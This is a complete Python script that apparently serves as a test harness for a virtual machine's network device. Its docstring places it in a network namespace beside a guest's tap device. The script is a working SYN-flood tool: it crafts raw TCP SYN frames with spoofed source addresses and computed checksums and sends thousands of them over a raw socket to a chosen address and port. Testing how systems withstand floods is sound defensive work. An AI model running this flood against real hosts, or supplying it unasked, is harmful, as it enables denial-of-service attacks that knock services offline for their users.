"""Runs inside a network namespace of its own, beside a guest's tap device:
half-open connections from made-up addresses.

Usage: syn_flood.py INTERFACE GUEST_MAC GUEST_ADDRESS PORT COUNT
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    """RFC 1071."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source_mac: bytes, target_mac: bytes, source: bytes, target: bytes, source_port: int, port: int) -> bytes:
    """An Ethernet frame with a TCP SYN (RFC 9293, section 3.1)."""
    sequence = random.getrandbits(32)
    tcp = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 5 << 4, 0x02, 65535, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    total, identity = 20 + len(tcp), random.getrandbits(16)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, identity, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return target_mac + source_mac + b"\x08\x00" + ip + tcp


def main() -> None:
    interface, mac, address, port, count = sys.argv[1:]
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((interface, 0))
    own_mac = raw.getsockname()[4]
    target_mac, target = bytes.fromhex(mac.replace(":", "")), socket.inet_aton(address)
    for i in range(int(count)):
        source = bytes([target[0], target[1], target[2] ^ 0x80 | (i >> 14) & 0x7F, 1 + i % 250])
        raw.send(syn(own_mac, target_mac, source, target, 1024 + i % 60000, int(port)))
        if i % 200 == 199:
            time.sleep(0.02)  # 10,000 SYNs in about a second: faster ones would only be lost in the emulated device
    print(count)


if __name__ == "__main__":
    main()
